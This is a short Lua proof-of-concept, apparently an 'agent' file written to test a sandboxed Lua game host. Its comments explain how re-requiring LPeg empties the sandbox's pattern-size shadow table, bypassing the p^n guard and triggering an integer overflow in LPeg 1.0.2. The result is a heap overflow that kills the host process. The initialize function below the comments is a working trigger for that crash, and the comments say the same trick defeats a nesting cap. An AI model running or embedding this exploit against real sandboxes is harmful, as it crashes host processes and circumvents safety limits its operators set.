-- Re-requiring LPeg forgets every pattern's size estimate, so the p^n size
-- guard is bypassed and LPeg 1.0.2's int overflow in lp_star comes back.
--   package.loaded.lpeg = nil; require "lpeg"  runs sb_open_lpeg again:
--   luaopen_lpeg re-registers the RAW C metamethods in the shared
--   "lpeg-pattern" metatable and the instrumentation re-wraps them with a NEW,
--   empty shadow table. Patterns made before are then "unknown": size 16,
--   depth 1 (runtime/sandbox.c, sb_lpeg_instrument, size()/depth()).
-- a = P(("a"):rep(2047)) has a real tree of 4093 nodes; the wrapper raises
-- stop * a (4096 nodes) to n = 2^20 - 1, which the guard allows because it
-- estimates (n+2)*(16+16) = 33.5M < 2^26. LPeg computes newtree((n+1)*(4096+1))
-- in int: 2^32 + 2^20 wraps to 2^20 nodes (8 MB), then writes 2^20 copies of
-- 4096 nodes (32 GB) into it: HEAP OVERFLOW in the host process.
-- RESULT (in process, default budget): host killed by SIGSEGV (exit 139) in
-- a few ms; with --isolate the child dies (fault "lost") and the game goes on.
-- The same trick lifts the 400-level nesting cap (see lpeg_reopen_depth.lua).
local agent = {}
function agent:initialize()
  local lpeg = require "lpeg"
  local a = lpeg.P(("a"):rep(2047))
  package.loaded.lpeg = nil
  require "lpeg"                 -- fresh wrappers, fresh (empty) shadow table
  local q = a ^ ((1 << 20) - 1)
  print("survived", q)
end
return agent
